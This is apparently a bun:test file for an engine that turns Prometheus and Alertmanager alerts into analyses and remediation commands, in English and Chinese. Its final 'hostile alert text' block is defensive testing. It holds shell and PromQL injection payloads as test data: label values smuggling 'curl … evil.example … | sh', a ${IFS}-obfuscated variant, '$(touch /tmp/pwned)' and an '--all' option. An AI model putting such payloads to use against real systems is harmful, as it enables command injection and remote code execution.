/** The built-in engine: a specific analysis per catalogue family, unknown alerts, Chinese, determinism, types. */
import { describe, expect, test } from "bun:test";
import type { Alert } from "../../src/alerts/alert.ts";
import { CATALOGUE, CATALOGUE_NAMES } from "../../src/analysis/catalogue/index.ts";
import type { AnalysisResult } from "../../src/analysis/schema.ts";
import { fixture } from "../support/alert-groups.ts";
import { alertOf, fixtureAlert, resultOf } from "../support/analysis.ts";
import { makeHarness } from "../support/harness.ts";

const GENERIC = "No built-in pattern matches this alert";

async function builtin(
  alert: Alert,
  type = "comprehensive",
  language?: "en" | "zh",
): Promise<AnalysisResult> {
  const h = makeHarness("ai: { order: [builtin] }\n");
  return resultOf(await h.job("/jobs/analysis", { type, alert, ...(language ? { language } : {}) }));
}
const commands = (r: AnalysisResult) => [
  ...r.remediation.map((s) => s.command),
  ...r.root_causes.map((c) => c.evidence),
];

describe("the built-in catalogue", () => {
  test("knows at least 40 alert names across the eight families", () => {
    expect(new Set(CATALOGUE_NAMES).size).toBeGreaterThanOrEqual(40);
    expect(new Set(CATALOGUE.map((e) => e.family))).toEqual(
      new Set([
        "node",
        "kubernetes",
        "blackbox",
        "database",
        "queue",
        "certificate",
        "prometheus",
        "alertmanager",
      ]),
    );
    for (const e of CATALOGUE) {
      expect(e.causes.length).toBeGreaterThan(0);
      expect(e.steps.some((s) => s.risk === "low")).toBe(true);
      for (const text of [e.summary, ...e.causes.map((c) => c.text), ...e.steps.map((s) => s.text)])
        expect(text.en && text.zh).toBeTruthy();
    }
  });

  const cases: [string, Alert, string, string][] = [
    [
      "node-exporter",
      fixtureAlert("alertmanager-firing"),
      "CPU on 10.0.0.11 is saturated",
      'node_cpu_seconds_total{instance="10.0.0.11:9100",mode!="idle"}',
    ],
    [
      "kube-state-metrics",
      fixtureAlert("alertmanager-mixed"),
      "Container api of pod payments/api-7d9f8-x2k4q keeps crashing",
      "kubectl -n payments logs api-7d9f8-x2k4q -c api --previous",
    ],
    [
      "blackbox",
      alertOf({
        alertname: "BlackboxProbeFailed",
        instance: "https://shop.example.com",
        job: "blackbox",
        module: "http_2xx",
        severity: "critical",
      }),
      "Probe of https://shop.example.com fails",
      "probe?target=https://shop.example.com&module=http_2xx&debug=true",
    ],
    [
      "databases",
      alertOf({ alertname: "MysqlTooManyConnections", instance: "db-01:9104", severity: "warning" }),
      "MySQL on db-01:9104 is close to max_connections",
      'mysql_global_status_threads_connected{instance="db-01:9104"}',
    ],
    [
      "message queues",
      alertOf({
        alertname: "KafkaConsumerGroupLag",
        consumergroup: "billing",
        topic: "invoices",
        severity: "warning",
      }),
      "Consumer group billing is falling behind on topic invoices",
      "--describe --group billing",
    ],
    [
      "certificates",
      alertOf({ alertname: "SSLCertExpiringSoon", instance: "shop.example.com:443", severity: "warning" }),
      "The TLS certificate served by shop.example.com:443 expires soon",
      "openssl s_client -connect shop.example.com:443",
    ],
    [
      "Prometheus",
      alertOf({ alertname: "PrometheusRuleFailures", instance: "prometheus:9090", severity: "critical" }),
      "Prometheus prometheus:9090 fails or skips rule evaluations",
      "curl -s http://prometheus:9090/api/v1/rules",
    ],
    [
      "Alertmanager",
      alertOf({
        alertname: "AlertmanagerFailedToSendAlerts",
        instance: "am:9093",
        integration: "webhook",
        severity: "warning",
      }),
      "Alertmanager am:9093 fails to deliver notifications to webhook",
      'alertmanager_notifications_failed_total{integration="webhook"}',
    ],
  ];
  for (const [family, alert, summary, command] of cases) {
    test(`${family}: ${alert.labels.alertname} gets its specific analysis`, async () => {
      const r = await builtin(alert);
      expect(r.engine).toBe("builtin");
      expect(r.summary).toStartWith(summary);
      expect(r.summary).not.toContain(GENERIC);
      expect(commands(r).some((c) => c.includes(command))).toBe(true);
      expect(r.root_causes.length).toBeGreaterThan(0);
      expect(r.root_causes[0].evidence).toStartWith("Check: ");
      expect(r.remediation[0].risk).toBe("low");
    });
  }

  test("commands name the deployment behind a pod", async () => {
    const r = await builtin(fixtureAlert("alertmanager-mixed"));
    expect(r.remediation.map((s) => s.command)).toContain("kubectl -n payments rollout undo deployment/api");
  });

  test("what the alert itself says makes a cause more likely", async () => {
    const a = alertOf(
      { alertname: "KubePodCrashLooping", namespace: "shop", pod: "cart-5d8f7c9b6-q2w3e", container: "cart" },
      { annotations: { description: "Last state: terminated, reason OOMKilled, exit code 137" } },
    );
    const r = await builtin(a);
    expect(r.root_causes[0].cause).toContain("OOMKilled");
    expect(r.root_causes[0].confidence).toBe(0.55);
    expect(r.root_causes[0].evidence).toStartWith('The alert mentions "OOMKilled".');
  });

  test("the runbook, when the alert links one, comes first", async () => {
    const r = await builtin(fixtureAlert("alertmanager-firing"));
    expect(r.remediation[0]).toEqual({
      step: "Follow the runbook: https://runbooks.example/HighCPU",
      command: "",
      risk: "low",
    });
  });

  test("Watchdog is explained as the heartbeat it is", async () => {
    const r = await builtin(alertOf({ alertname: "Watchdog", severity: "none" }));
    expect(r.summary).toContain("it firing means alerting works");
    expect(r.severity).toBe("info");
  });
});

describe("what a review found the catalogue getting wrong", () => {
  const gen = (expr: string) => `http://prom.example:9090/graph?g0.expr=${encodeURIComponent(expr)}`;
  test("a component an exporter reports down is not taken for a target Prometheus cannot scrape", async () => {
    for (const [alertname, expr] of [
      ["CephOSDDown", "ceph_osd_up == 0"],
      ["HAProxyBackendDown", "haproxy_backend_active_servers == 0"],
      ["etcdMembersDown", ""],
    ]) {
      const r = await builtin(
        alertOf(
          { alertname, severity: "critical", job: alertname.slice(0, 4).toLowerCase(), instance: "m-1:9283" },
          expr ? { generatorURL: gen(expr) } : {},
        ),
      );
      expect({ alertname, scrape: r.summary.includes("cannot scrape") }).toEqual({
        alertname,
        scrape: false,
      });
    }
    for (const alertname of ["InstanceDown", "HostDown", "ServiceDown", "ServerDown", "JobDown"]) {
      const r = await builtin(alertOf({ alertname, severity: "critical", job: "db", instance: "db-1:9104" }));
      expect({ alertname, summary: r.summary }).toEqual({
        alertname,
        summary: expect.stringContaining("cannot scrape"),
      });
    }
  });

  test("an alert whose own words say an instance is down, in English or Chinese, is a scrape target down", async () => {
    for (const description of [
      "Instance 10.0.0.1:9100 of job node has been down for 5 minutes.",
      "实例 10.0.0.1:9100 不可用",
    ]) {
      const r = await builtin(
        alertOf(
          { alertname: "NodeGone", severity: "critical", job: "node", instance: "10.0.0.1:9100" },
          { annotations: { description } },
        ),
      );
      expect({ description, summary: r.summary }).toEqual({
        description,
        summary: expect.stringContaining("cannot scrape"),
      });
    }
  });

  test("a check never selects a label the alert lacks (kube-prometheus's TargetDown has no instance)", async () => {
    const r = await builtin(
      alertOf({
        alertname: "TargetDown",
        severity: "warning",
        job: "kubelet",
        namespace: "kube-system",
        service: "kubelet",
      }),
      "comprehensive",
      "zh",
    );
    const checks = r.root_causes.map((c) => c.evidence);
    expect(
      checks.some((c) => c.includes('up{job="kubelet",namespace="kube-system",service="kubelet"} == 0')),
    ).toBe(true);
    // Every word a person reads or pastes names what the alert has: its service, not an instance.
    const read = JSON.stringify(r);
    for (const placeholder of ["<instance>", "<host>", "<exporter>"]) expect(read).not.toContain(placeholder);
    expect(r.summary).toContain("命名空间 kube-system 中的部分 kubelet 目标");
    const commands = r.remediation.map((s) => s.command);
    expect(commands).toContain("kubectl -n kube-system get pods -o wide");
    expect(commands.join("\n")).toContain('select(.labels.job=="kubelet" and .health!="up")');
  });

  test("a PodMonitor's TargetDown (job and namespace, no service): no placeholder in what a person reads", async () => {
    const r = await builtin(
      alertOf({ alertname: "TargetDown", severity: "warning", job: "payments", namespace: "shop" }),
    );
    expect(JSON.stringify(r)).not.toContain("<service>");
    expect(r.summary).toContain("payments targets in namespace shop");
  });

  test("an alert of that entry without instance and outside Kubernetes (PrometheusJobMissing: job only) keeps the generic answer", async () => {
    const r = await builtin(alertOf({ alertname: "PrometheusJobMissing", severity: "warning", job: "node" }));
    expect(JSON.stringify(r)).not.toContain("<namespace>");
    expect(r.summary).toContain("cannot scrape node");
  });

  test("a hint does not count the alert's own name: NodeFilesystemSpaceFillingUp is not 'mentioned' by its name", async () => {
    const r = await builtin(
      alertOf({ alertname: "NodeFilesystemSpaceFillingUp", severity: "warning", instance: "db-1:9100" }),
    );
    expect(JSON.stringify(r.root_causes)).not.toContain("NodeFilesystemSpaceFillingUp");
  });

  test("memory overcommit is checked on memory; a filesystem's device is named", async () => {
    const mem = await builtin(alertOf({ alertname: "KubeMemoryOvercommit", severity: "warning" }));
    expect(mem.root_causes[0].evidence).toContain('kube_node_status_allocatable{resource="memory"}');
    const cpu = await builtin(alertOf({ alertname: "KubeCPUOvercommit", severity: "warning" }));
    expect(cpu.root_causes[0].evidence).toContain('kube_node_status_allocatable{resource="cpu"}');
    const fs = await builtin(
      alertOf({
        alertname: "NodeFilesystemAlmostOutOfSpace",
        severity: "critical",
        instance: "db-1:9100",
        device: "/dev/sdb1",
        mountpoint: "/data",
      }),
    );
    expect(commands(fs).join("\n")).toContain("resize2fs /dev/sdb1");
  });
});

describe("the built-in engine in Chinese", () => {
  test("a Chinese alert name is matched by its words and expression and answered in Chinese", async () => {
    const r = await builtin(fixtureAlert("alertmanager-zh"), "comprehensive", "zh");
    expect(r.summary).toStartWith("db-03 上的文件系统 / 空间即将写满");
    expect(r.summary).toContain("预计 6 小时内写满");
    expect(r.root_causes[0].evidence).toContain("验证：");
    expect(r.remediation.map((s) => s.step)).toContain("找出占用最大的目录");
    expect(r.remediation.map((s) => s.command)).toContain(
      "ssh db-03 'du -xh / --max-depth=2 2>/dev/null | sort -rh | head -15'",
    );
  });

  test("ai.language: zh is the default language of answers", async () => {
    const h = makeHarness("ai: { order: [builtin], language: zh }\n");
    const r = await resultOf(
      await h.job("/jobs/analysis", { type: "quick", alert: fixtureAlert("alertmanager-firing") }),
    );
    expect(r.summary).toStartWith("10.0.0.11 的 CPU 使用率持续过高");
  });

  test("a job's language as worker.locale spells it (zh-CN, and ?language=zh-CN on a raw payload) is zh, not a 489 that loses it", async () => {
    const h = makeHarness("ai: { order: [builtin] }\n");
    const r = await resultOf(
      await h.job("/jobs/analysis", {
        type: "quick",
        alert: fixtureAlert("alertmanager-firing"),
        language: "zh-CN",
      }),
    );
    expect(r.summary).toStartWith("10.0.0.11 的 CPU 使用率持续过高");
    const raw = await h.job("/jobs/analysis?type=quick&language=zh-CN", fixture("alertmanager-firing.json"));
    expect(raw.status).toBe(200);
    for (const language of ["zh-Hans-CN", "ZH", "en_US.UTF-8"])
      expect(
        (
          await h.job("/jobs/analysis", {
            type: "quick",
            alert: fixtureAlert("alertmanager-firing"),
            language,
          })
        ).status,
      ).toBe(200);
  });
});

describe("alerts the catalogue does not know", () => {
  const unknown = alertOf(
    { alertname: "PaymentsSettlementStuck", severity: "page", service: "billing", instance: "pay-01:8080" },
    {
      annotations: { summary: "Settlements not processed", runbook_url: "https://runbooks.example/settle" },
      startsAt: "2026-11-20T00:00:00Z",
      value: 1432,
      generatorURL: "http://prometheus:9090/graph?g0.expr=settlement_backlog+%3E+1000",
    },
  );

  test("get an analysis from their labels, annotations, severity, duration and value", async () => {
    const r = await builtin(unknown);
    // The duration is the analysis's: a page sent hours later says its own "firing for" beside it.
    expect(r.summary).toContain("PaymentsSettlementStuck: When analysed, firing for ");
    expect(r.summary).toContain("on pay-01:8080 (severity page, value 1432)");
    expect(r.summary).toContain('The alert says: "Settlements not processed".');
    expect(r.summary).toContain(GENERIC);
    expect(r.severity).toBe("critical");
    expect(r.root_causes[0].evidence).toBe(
      "Run the rule's expression in Prometheus: settlement_backlog > 1000",
    );
    expect(r.root_causes.map((c) => c.cause).join(" ")).toContain("The threshold does not fit this target");
    const steps = r.remediation;
    expect(steps[0].step).toBe("Follow the runbook: https://runbooks.example/settle");
    expect(steps.map((s) => s.command)).toContain('up{instance="pay-01:8080"}');
    expect(steps.at(-1)?.command).toStartWith(
      'amtool silence add alertname="PaymentsSettlementStuck" instance="pay-01:8080"',
    );
  });

  test("a short-lived resolved one is called a spike or flapping", async () => {
    const r = await builtin(
      alertOf(
        { alertname: "CheckoutErrorsBurst", namespace: "shop", pod: "checkout-0" },
        { status: "resolved", startsAt: "2026-11-28T08:00:00Z", endsAt: "2026-11-28T08:03:00Z" },
      ),
    );
    expect(r.summary).toContain("When analysed, resolved after 3m on shop/checkout-0");
    expect(r.root_causes.map((c) => c.cause)).toContain("A short spike or a flapping condition");
    expect(r.remediation.map((s) => s.command)).toContain(
      "kubectl -n shop describe pod checkout-0 && kubectl -n shop logs checkout-0 --tail=100",
    );
  });

  test("in Chinese too", async () => {
    const r = await builtin(unknown, "comprehensive", "zh");
    expect(r.summary).toContain("内置知识库中没有该告警的专门规则");
    expect(r.root_causes[0].cause).toBe("规则监控的条件确实在 pay-01:8080 上发生");
  });
});

describe("determinism and analysis types", () => {
  test("the same alert gets the same analysis every time", async () => {
    const a = fixtureAlert("alertmanager-mixed");
    const strip = ({ attempts: _a, latency_ms: _l, similar: _s, summary, ...rest }: AnalysisResult) => ({
      ...rest,
      summary: summary.replace(/firing for [^(]+/, ""),
    });
    expect(strip(await builtin(a))).toEqual(strip(await builtin(a)));
  });

  test("quick keeps two causes and three steps; root_cause keeps the checks and the first fix", async () => {
    const a = fixtureAlert("alertmanager-mixed");
    const quick = await builtin(a, "quick");
    expect(quick.root_causes).toHaveLength(2);
    expect(quick.remediation).toHaveLength(3);
    const rc = await builtin(a, "root_cause");
    expect(rc.root_causes).toHaveLength(3);
    expect(rc.remediation.map((s) => s.risk)).toEqual(["low", "low", "low", "medium"]);
  });
});

describe("hostile alert text", () => {
  test("a description of 200 KB repeating a keyword is matched in time (the keywords read a bounded part)", async () => {
    // Before: the catalogue's `mysql.*…` keywords backtracked over all of it, ~30 s of a blocked
    // loop (bun:test cannot stop a blocked test, so the time is asserted; fixed, it takes ms).
    const started = performance.now();
    const r = await builtin(
      alertOf({ alertname: "Zzz" }, { annotations: { description: "mysql".repeat(40_000) } }),
    );
    expect(r.summary).toBeTruthy();
    expect(performance.now() - started).toBeLessThan(3_000);
  });

  test("label values with shell or PromQL syntax are not filled into commands or queries", async () => {
    const evil = "db-1'; curl -s http://evil.example/x | sh; echo '";
    const r = await builtin(alertOf({ alertname: "MySQLDown", instance: evil, job: 'x"} or vector(1) #' }));
    // Inside a PromQL string, escaped, a value is only a value; anywhere else it must not be.
    const outsideStrings = (c: string) => c.replace(/"(?:\\.|[^"\\])*"/g, '""');
    for (const c of commands(r)) expect(outsideStrings(c)).not.toMatch(/evil\.example|vector\(1\)/);
    expect(commands(r).join("\n")).toContain("ssh <host>");
  });

  test("ordinary values are still filled: an aggregation's matcher left out when its label is missing, an IPv6 instance, an alertname with spaces in amtool's quotes", async () => {
    const lag = await builtin(alertOf({ alertname: "KafkaConsumerGroupLag", consumergroup: "billing" }));
    expect(commands(lag).join("\n")).toContain('{consumergroup="billing"}');
    expect(commands(lag).join("\n")).not.toContain("<topic>");
    const v6 = await builtin(alertOf({ alertname: "HostCpuHighIowait", instance: "[2001:db8::5]:9100" }));
    expect(commands(v6).join("\n")).toContain('instance="[2001:db8::5]:9100"');
    const spaced = await builtin(
      alertOf(
        { alertname: "Payment API latency", instance: "pay-1:8080" },
        { startsAt: "2026-11-01T00:00:00Z" },
      ),
    );
    expect(spaced.remediation.map((s) => s.command).join("\n")).toContain(
      'amtool silence add alertname="Payment API latency"',
    );
  });

  test("the same holds for an alert the catalogue does not know, and for a value quoted inside a shell command", async () => {
    const evil = "db-1;curl$" + "{IFS}evil.example|sh;#"; // ${IFS}: a space to the shell
    const outsideStrings = (c: string) => c.replace(/"(?:\\.|[^"\\])*"/g, '""');
    const unknown = await builtin(alertOf({ alertname: "CheckoutQueueOdd", instance: evil }));
    for (const c of commands(unknown)) expect(outsideStrings(c)).not.toContain("evil.example");
    expect(commands(unknown).join("\n")).toContain("ssh <host>");
    // TargetDown's step quotes the instance inside jq's single-quoted program: $(…) there would run.
    const target = await builtin(
      alertOf({ alertname: "TargetDown", job: "node", instance: "x'$(touch /tmp/pwned)'" }),
    );
    const jq = commands(target).filter((c) => c.includes("jq '"));
    expect(jq.length).toBeGreaterThan(0);
    for (const c of jq) expect(c).not.toContain("$(touch");
    // startsAt is what Date.parse reads, "(…)" included: it goes into ssh's quoted --since as ISO.
    const since = await builtin(
      alertOf(
        { alertname: "WidgetStuck", instance: "10.0.0.5:9100" },
        { startsAt: "Jan 1 2026 ('; touch /tmp/pwned; ')" },
      ),
    );
    for (const c of commands(since)) expect(c).not.toContain("touch");
    expect(commands(since).join("\n")).toContain('journalctl --since "2026-01-01T');
    // An option is not a value: `kubectl delete job --all`.
    const job = await builtin(alertOf({ alertname: "KubeJobFailed", namespace: "prod", job_name: "--all" }));
    for (const c of commands(job)) expect(c).not.toMatch(/job --all/);
  });
});
